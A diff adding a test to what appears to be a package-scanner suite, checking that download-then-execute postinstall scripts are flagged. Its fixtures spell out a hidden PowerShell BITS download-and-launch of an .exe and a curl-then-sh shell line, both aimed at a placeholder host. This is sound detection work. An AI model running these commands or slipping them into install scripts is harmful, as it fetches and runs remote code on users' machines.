@@ -948,6 +948,21 @@ def test_powershell_download_then_start_process_is_download_execute():
         "powershell -Command \"Invoke-WebRequest -Uri 'https://cdn.example/l.zip' -OutFile 'l.zip'; Start-Process notepad\"")}))
 
 
+def test_a_bits_transfer_download_started_in_the_branch_that_checks_it_arrived_is_download_execute():
+    # blind set 45's win-toast-notify: Start-BitsTransfer saves with -Destination, and the file is started in the
+    # branch of `if (Test-Path …)`; a shell's `if [ -f x ]; then sh x; fi` is the same step.
+    bits = ("powershell -Command \"Import-Module BitsTransfer; Start-BitsTransfer -Source 'https://cdn.example/t.exe' "
+            "-Destination 'C:/Users/Public/t.exe'; if (Test-Path 'C:/Users/Public/t.exe') { Start-Process "
+            "-FilePath 'C:/Users/Public/t.exe' -WindowStyle Hidden }\"")
+    assert "install-script/download-execute" in rules(artifact({"postinstall": bits}))
+    shell = "curl -fsSL https://cdn.example/s -o /tmp/s; if [ -f /tmp/s ]; then sh /tmp/s; fi"
+    assert "install-script/download-execute" in rules(artifact({"postinstall": shell}))
+    # Copied, or only checked for, a file is not run.
+    assert "install-script/download-execute" not in rules(artifact({"postinstall": (
+        "powershell -Command \"Start-BitsTransfer -Source 'https://cdn.example/t.zip' -Destination 't.zip'; "
+        "if (Test-Path 't.zip') { Write-Host done }\"")}))
+
+
 def test_a_package_npmrc_that_puts_its_own_file_in_place_of_git_runs_that_file_at_install():
     # blind set 36's tw-class-sorter (PackageGate, 2026): a git dependency's .npmrc sets `git=` to a script of the
     # repository, which npm runs while it prepares the dependency, with or without install scripts.
